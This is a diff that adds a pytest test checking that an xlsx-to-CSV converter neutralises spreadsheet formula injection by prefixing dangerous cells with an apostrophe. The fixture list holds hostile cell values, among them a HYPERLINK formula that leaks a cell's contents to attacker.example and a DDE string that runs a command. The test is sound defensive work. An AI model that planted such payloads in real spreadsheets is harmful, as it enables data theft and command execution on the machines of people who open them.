@@ -326,3 +326,46 @@ def test_it_streams_a_large_text_file_in_blocks(tmp_path: Path) -> None:
     assert len(segments) >= 3
     assert max(len(s.text) for s in segments) <= 1024 * 1024
     assert sum(len(s.text) for s in segments) == path.stat().st_size
+
+
+def test_a_converted_sheet_neutralises_cells_that_a_spreadsheet_would_run_as_formulas(
+    tmp_path: Path,
+) -> None:
+    import csv
+
+    import openpyxl
+
+    from assets.processing.conversion import convert_xlsx_to_csv
+
+    workbook = openpyxl.Workbook()
+    sheet = workbook.active
+    sheet.title = "Register"
+    hostile = [
+        '=HYPERLINK("http://attacker.example/?"&A2,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A2)",
+        "\tleading tab",
+        "\rleading carriage return",
+    ]
+    for column, text in enumerate(hostile, start=1):
+        cell = sheet.cell(row=1, column=column)
+        cell.value = text
+        cell.data_type = "s"  # a string a spreadsheet would run, not a formula of the sheet
+    sheet.append(["Plain text", -5, "a=b", 1.5, "", "note\r=1+2"])
+    path = tmp_path / "register.xlsx"
+    workbook.save(path)
+    destination = tmp_path / "register.csv"
+
+    convert_xlsx_to_csv(path, destination)
+
+    with destination.open(encoding="utf-8", newline="") as converted:
+        rows = list(csv.reader(converted))
+    assert rows[0] == ["## Sheet: Register"]
+    # Each string starting with = + - @ tab or CR gets a leading apostrophe (OWASP), which
+    # a spreadsheet shows as text; numbers and other strings are written as they are, and
+    # a carriage return inside a cell is quoted (unquoted, a reader starts a row at it).
+    assert rows[1] == ["'" + text for text in hostile]
+    assert rows[2] == ["Plain text", "-5", "a=b", "1.5", "", "note\r=1+2"]
+    text = "".join(segment.text for segment in _extract(path))
+    assert "'=HYPERLINK(" in text and "'@SUM(A1:A2)" in text
